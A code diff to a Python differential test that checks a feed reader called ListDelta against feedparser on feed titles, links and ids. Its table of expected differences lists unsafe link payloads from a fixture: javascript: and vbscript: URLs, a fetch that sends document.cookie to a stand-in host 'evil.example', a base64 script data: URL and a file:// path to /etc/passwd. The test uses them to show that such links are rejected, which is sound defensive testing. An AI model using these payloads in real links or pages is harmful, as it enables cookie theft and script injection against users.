@@ -5,33 +5,59 @@ and titles.
 
 Titles are compared as a reader shows them: where feedparser reports an HTML title (`title_detail.type`
 text/html or application/xhtml+xml) it keeps the markup, which ListDelta's model reduces to text, so that title
-is compared with its tags removed, its character references decoded and its white space runs made one space
-(docs/sources.md, "Titles and links"). Ids are compared where feedparser has one.
+is compared as text (feed_rules.shown_title: tags, comments, CDATA sections, script and style elements removed,
+character references decoded, white space runs made one space; docs/sources.md, "Titles and links"). Ids are
+compared where feedparser has one. Links are compared as feedparser gives them.
+
+Where the two readers differ on purpose, the difference is listed in EXPECTED_DIFFERENCES with its reason (the same
+as docs/sources.md gives): both values must then be exactly the listed ones, and every listed difference must be
+seen, so a fixed or a changed difference fails the test too.
 
 The inputs: the unit tests' fixtures of each form (Tests/ListDeltaFeedsTests/Fixtures) and a corpus this test
 generates from a fixed seed (RSS 2.0, RSS without a version or in UserLand's namespace, Atom 1.0, Atom 0.3 with
 each content mode; HTML, escaped, base64, XHTML and CDATA titles; character references; relative links under
-`xml:base` at either level or none; safe internal entities).
+`xml:base` at either level or none; Atom entries whose only link is their http(s) id; safe internal entities).
 """
 
 import base64
-import html
 import random
-import re
 from pathlib import Path
 from xml.sax.saxutils import escape, quoteattr
 
 import pytest
 
 from conftest import Server, uid
+from feed_rules import shown_title
 from test_sources import ALLOW_LOOPBACK, FeedServer, attach, ok_fetch
 
 feedparser = pytest.importorskip("feedparser")
 
 FIXTURES = Path(__file__).resolve().parents[1] / "ListDeltaFeedsTests" / "Fixtures"
 FIXTURE_NAMES = ["atom.xml", "atom03.xml", "rss2.xml", "rss091.xml", "rss10.rdf", "rss-unversioned.xml",
-                 "rss-namespaced.xml", "entities.xml", "cdf.xml", "xml-base.xml", "relative-nobase.xml"]
-HTML_TYPES = {"text/html", "application/xhtml+xml"}
+                 "rss-namespaced.xml", "entities.xml", "cdf.xml", "xml-base.xml", "relative-nobase.xml",
+                 "atom-id-links.xml", "rss-guid-links.xml", "extension-titles.xml", "atom-base64-titles.xml",
+                 "html-titles.xml", "cdf-base.xml", "atom-no-namespace.xml", "unsafe-links.xml"]
+
+ONLY_WEB_LINKS = "a link is only an http(s) URL; feedparser keeps any scheme"
+IDS_AS_WRITTEN = "an id is an identifier, kept as written; feedparser resolves it like a link"
+# (fixture, entry, member) -> (ListDelta's value, feedparser's value, the reason); docs/sources.md lists each reason.
+EXPECTED_DIFFERENCES = {
+    ("atom-id-links.xml", 1, "id"): ("glue-up", "https://notes.example.net/2026/11/glue-up", IDS_AS_WRITTEN),
+    ("atom-id-links.xml", 2, "id"): ("/2026/11/inventory", "https://notes.example.net/2026/11/inventory", IDS_AS_WRITTEN),
+    ("atom-id-links.xml", 3, "link"): (None, "tag:notes.example.net,2026:oil-finishes",
+                                       "an id is the link only when it is (or resolves to) an http(s) URL"),
+    ("rss-guid-links.xml", 0, "id"): ("episodes/12", "https://radio.example.org/shows/late-signal/episodes/12",
+                                      IDS_AS_WRITTEN),
+    ("extension-titles.xml", 4, "title"): (None, "Storm warning",
+                                           "the title of an image inside a category is not the item's title"),
+    ("unsafe-links.xml", 0, "link"): (None, "javascript:alert(document.cookie)", ONLY_WEB_LINKS),
+    ("unsafe-links.xml", 1, "link"): ("https://board.example.com/posts/lost-cat",
+                                      "JavaScript:void(fetch('//evil.example/'+document.cookie))",
+                                      ONLY_WEB_LINKS + "; the permalink guid is the next candidate"),
+    ("unsafe-links.xml", 2, "link"): (None, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ONLY_WEB_LINKS),
+    ("unsafe-links.xml", 3, "link"): (None, 'vbscript:msgbox("hi")', ONLY_WEB_LINKS),
+    ("unsafe-links.xml", 4, "link"): (None, "file://etc/passwd", ONLY_WEB_LINKS),
+}
 
 
 @pytest.fixture(scope="module")
@@ -50,18 +76,9 @@ def feeds():
     f.close()
 
 
-def shown(detail, value):
-    """A feedparser title as a reader shows it (see the module's doc)."""
-    if value is None:
-        return None
-    if (detail or {}).get("type") in HTML_TYPES:
-        value = " ".join(html.unescape(re.sub(r"<[A-Za-z/!?][^>]*>", "", value)).split())
-    value = value.strip()
-    return value or None
-
-
-def compare(listdelta, feeds, name, body):
-    """Serves `body`, reads it both ways, and returns the differences (empty when they agree)."""
+def compare(listdelta, feeds, name, body, seen=None):
+    """Serves `body`, reads it both ways, and returns the differences (empty when they agree) that
+    EXPECTED_DIFFERENCES does not list exactly; the listed ones met are added to `seen`."""
     path = f"/differential/{name}"
     feeds.set(path, body, content_type="application/xml")
     url = feeds.url(path)
@@ -76,18 +93,25 @@ def compare(listdelta, feeds, name, body):
     for index, (item, entry) in enumerate(zip(items, parsed.entries)):
         model = item["model"]
         ours = {"title": model["title"], "link": model["link"]}
-        theirs = {"title": shown(entry.get("title_detail"), entry.get("title")), "link": entry.get("link")}
+        theirs = {"title": shown_title(entry.get("title_detail"), entry.get("title")), "link": entry.get("link")}
         if "id" in entry:
             ours["id"], theirs["id"] = item["id"], entry["id"]
-        if ours != theirs:
-            problems.append(f"{name} entry {index}: ListDelta {ours}, feedparser {theirs}")
+        for member in ours:
+            key = (name, index, member)
+            if key in EXPECTED_DIFFERENCES and EXPECTED_DIFFERENCES[key][:2] == (ours[member], theirs[member]):
+                if seen is not None:
+                    seen.add(key)
+            elif ours[member] != theirs[member]:
+                problems.append(f"{name} entry {index} {member}: ListDelta {ours[member]!r}, feedparser {theirs[member]!r}")
     return problems
 
 
 @pytest.mark.parametrize("name", FIXTURE_NAMES)
 def test_the_fixtures_read_as_feedparser_reads_them(listdelta, feeds, name):
     body = (FIXTURES / name).read_bytes()
-    assert compare(listdelta, feeds, name, body) == []
+    seen = set()
+    assert compare(listdelta, feeds, name, body, seen) == []
+    assert seen == {key for key in EXPECTED_DIFFERENCES if key[0] == name}, "an expected difference was not seen"
 
 
 # ---------------------------------------------------------------------------
@@ -185,7 +209,9 @@ class Corpus:
             title, dated = self.atom03_title, "<issued>2026-11-25T08:00:00Z</issued><modified>2026-11-25T09:00:00Z</modified>"
         entries = []
         for n in range(n_entries):
-            entries.append(f"<entry{self.base_attribute()}>{title()}{self.atom_link(n)}<id>urn:gen:{n}</id>{dated}</entry>")
+            # Some entries have no link: their http(s) id is the page readers open.
+            links, id = ("", f"https://ids.example.com/atom/{n}") if self.random.random() < 0.2 else (self.atom_link(n), f"urn:gen:{n}")
+            entries.append(f"<entry{self.base_attribute()}>{title()}{links}<id>{id}</id>{dated}</entry>")
         return (f'<?xml version="1.0" encoding="utf-8"?>\n{head}{self.base_attribute()}>{title()}'
                 f'<link rel="alternate" type="text/html" href="home/"/><id>urn:gen</id>'
                 + "\n".join(entries) + "</feed>").encode()
